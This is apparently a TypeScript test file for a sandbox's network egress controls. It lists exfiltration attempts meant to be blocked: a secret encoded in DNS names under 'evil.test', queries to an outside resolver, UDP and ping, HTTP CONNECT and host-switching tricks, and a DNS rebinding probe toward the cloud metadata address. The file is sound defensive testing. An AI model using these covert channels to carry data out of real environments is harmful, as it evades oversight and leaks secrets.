/**
 * The attack: carry bytes out by something that is not the connection that was granted: a question for a name, another resolver, a
 * datagram, another protocol or another host inside an allowed connection. A regression would show at the far side.
 */
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { fileURLToPath } from 'node:url'
import type { Report } from '../../src/report/index.js'
import { HAS_OWN_STACK } from '../support/boundary.js'
import { ROOT, testFolder } from '../support/checkout.js'
import { onInternet, type Seen } from '../support/internet/index.js'
import { asEachNetworkUser, USERS } from '../support/users.js'

const WORLD = fileURLToPath(new URL('tunnels-world.js', import.meta.url))
const PROGRAM = join(ROOT, 'test/egress/probe.py')
const PUBLIC = '93.184.216.34'
const SECRET = 'c2VjcmV0'
const ZONE = {
  'allowed.test': [[PUBLIC]],
  'other.test': [['93.184.216.99']],
  'moved.test': [[PUBLIC], ['169.254.169.254']],
  [`${SECRET}.evil.test`]: [[PUBLIC]],
}

/** A datagram is refused at once; one hop out nobody tells a socket that is not connected, and one that is after the first. */
const NO_DATAGRAM = /^(EPERM|EACCES|ECONNREFUSED)/
const [NO_ANSWER, NOT_TAKEN] = HAS_OWN_STACK ? [/^silence/, /^(ok|E)/] : [NO_DATAGRAM, NO_DATAGRAM]

/** What is tried, and what a job hears of it. */
const TUNNELS: Readonly<Record<string, RegExp>> = {
  [`name,${SECRET}.evil.test`]: /^EAI_NONAME/,
  [`name,${SECRET}.allowed.test`]: /^EAI_NONAME/,
  [`ask,9.9.9.9,${SECRET}.evil.test`]: NO_ANSWER,
  'tcp,9.9.9.9,53,x': /^ECONNRESET/,
  'tcp,9.9.9.9,853,x': /^ECONNRESET/,
  'tcp,9.9.9.9,443,x': /^ECONNRESET/,
  [`udp,${PUBLIC},443`]: NOT_TAKEN,
  [`ping,${PUBLIC}`]: /^E/,
  'first,allowed.test,80,h2': /^ok 400$/,
  'first,allowed.test,80,connect': /^ok 4\d\d$/,
  'first,allowed.test,80,second': /^ok 200 4\d\d$|^ok 200$/,
  'first,allowed.test,80,upgrade': /^ok 403$|^ok 200$/,
  'first,allowed.test,80,absolute': /^ok 4\d\d$/,
}

asEachNetworkUser(
  'nothing leaves by a question, a datagram, another resolver or another protocol',
  async (user, t) => {
    const folder = testFolder(t, 0o777)
    const report = join(folder, 'report.json')
    const attempts = [...Object.keys(TUNNELS), 'http,allowed.test,80']
    const argv = user.cli([
      ...[
        'run',
        '--allow-host',
        'allowed.test:80',
        '--report',
        report,
        '--input',
        PROGRAM,
        '--deadline',
        '90s',
      ],
      ...['--', 'python3', 'probe.py', ...attempts],
    ])
    const { seen, stdout, stderr } = await onInternet(user, folder, argv, { zone: ZONE, sites: WORLD })
    const heard = heardIn(stdout)
    for (const [attempt, expected] of Object.entries(TUNNELS))
      assert.match(heard.get(attempt) ?? stderr, expected, attempt)
    // a port that is not 80 in Host is what probe.py writes; the request itself passes
    assert.match(heard.get('http,allowed.test,80') ?? '', /^ok 200/)
    assert.deepEqual(reachedBy(seen), [`${PUBLIC} 80`, 'allowed.test'])
    const { network } = JSON.parse(readFileSync(report, 'utf8')) as Report
    const verdicts = new Set(network.map(({ verdict }) => verdict))
    for (const each of ['denyName', 'denyDatagram', 'denyLiteral', 'denyConnect', 'denyHost'])
      assert.ok(verdicts.has(each), `${each}: ${[...verdicts]}`)
  },
)

test('the same reaches the far side where nothing keeps it (the control)', async (t) => {
  const [self] = USERS
  assert.ok(self)
  const attempts = Object.keys(TUNNELS).filter((attempt) => !attempt.startsWith('ping'))
  const argv = ['python3', PROGRAM, ...attempts]
  const { seen } = await onInternet(self, testFolder(t, 0o755), argv, { zone: ZONE, sites: WORLD })
  const reached = reachedBy(seen)
  for (const each of [
    '9.9.9.9 53',
    '9.9.9.9 853',
    '9.9.9.9 443',
    `${SECRET}.evil.test`,
    `${SECRET}.allowed.test`,
  ])
    assert.ok(reached.includes(each), `${each}: ${reached}`)
})

asEachNetworkUser(
  'a connection that is kept while its name moves leads to no other address unchecked',
  async (user, t) => {
    const folder = testFolder(t, 0o777)
    const argv = user.cli([
      ...['run', '--allow-public', '--input', PROGRAM],
      ...['--', 'python3', 'probe.py', 'kept,moved.test,80'],
    ])
    const { seen, stdout, stderr } = await onInternet(user, folder, argv, { zone: ZONE, sites: WORLD })
    assert.equal(heardIn(stdout).get('kept,moved.test,80'), 'ok 200 403', stderr)
    assert.deepEqual(reachedBy(seen), [`${PUBLIC} 80`, 'moved.test'])
  },
)

function heardIn(stdout: string): Map<string, string> {
  const lines = stdout.split('\n').map((line) => line.split('\t'))
  return new Map(lines.map(([attempt = '', result, detail]) => [attempt, `${result} ${detail}`.trim()]))
}

function reachedBy(seen: readonly Seen[]): string[] {
  const each = seen.map(({ kind, address, port, name = '' }) =>
    kind === 'tcp' ? `${address} ${port}` : name,
  )
  return [...new Set(each)].sort()
}
